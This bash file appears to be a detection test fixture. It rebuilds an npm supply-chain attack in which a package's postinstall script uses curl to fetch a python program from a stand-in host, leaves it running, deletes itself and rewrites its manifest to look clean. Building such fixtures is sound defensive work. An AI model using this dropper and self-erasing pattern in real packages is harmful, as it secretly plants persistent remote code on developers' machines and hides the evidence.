#!/bin/bash
# A dependency that nothing requires: its script fetches a program for python over plain HTTP, leaves it running, deletes itself and puts a clean manifest in its place.
#: tool npm
#: description a postinstall script fetches and starts a python program that outlives npm, erases itself and rewrites its manifest
#: project a project that installs one package
#: network none
#: home DIR/../../home
#: serve DIR/../../served
#: resolve sfrclak.example=203.0.113.10
#: finding survivor
#: finding self-erase
#: finding new-host@curl
#: attack axios 1.14.1 by plain-crypto-js, March 2026
if [ "${1-}" = prepare ]; then
  echo '{"name":"app","version":"1.0.0","private":true}' > package.json
  mkdir -p ~/from/package && cd ~/from/package
  echo '{"name": "plain-crypto", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}' > package.json
  cat > setup.js <<'END'
const { execSync } = require('node:child_process');
const { renameSync, unlinkSync, writeFileSync } = require('node:fs');
execSync('curl -o /tmp/ld.py -d packages.npm.example/product2 -s http://sfrclak.example/sleeper.py && nohup python3 /tmp/ld.py > /dev/null 2>&1 &', { shell: '/bin/sh' });
unlinkSync(__filename);
writeFileSync('package.md', '{"name":"plain-crypto","version":"1.0.0"}\n');
renameSync('package.md', 'package.json');
END
  tar czf ~/plain-crypto.tgz -C .. package && rm -r ~/from
  exit
fi
npm install --no-audit --no-fund ~/plain-crypto.tgz
